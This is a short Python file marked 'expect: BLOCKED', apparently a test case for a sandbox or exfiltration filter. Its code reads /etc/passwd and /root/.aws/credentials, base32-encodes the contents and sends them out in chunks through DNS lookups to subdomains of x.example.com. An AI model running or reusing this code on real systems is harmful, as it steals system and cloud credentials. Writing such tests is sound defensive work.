# expect: BLOCKED
import base64
import socket

def leak(path):
    with open(path, "rb") as f:
        blob = base64.b32encode(f.read()).decode().strip("=")
    for i in range(0, len(blob), 40):
        try:
            socket.gethostbyname(f"{blob[i:i + 40]}.x.example.com")
        except OSError:
            pass

leak("/etc/passwd")
leak("/root/.aws/credentials")
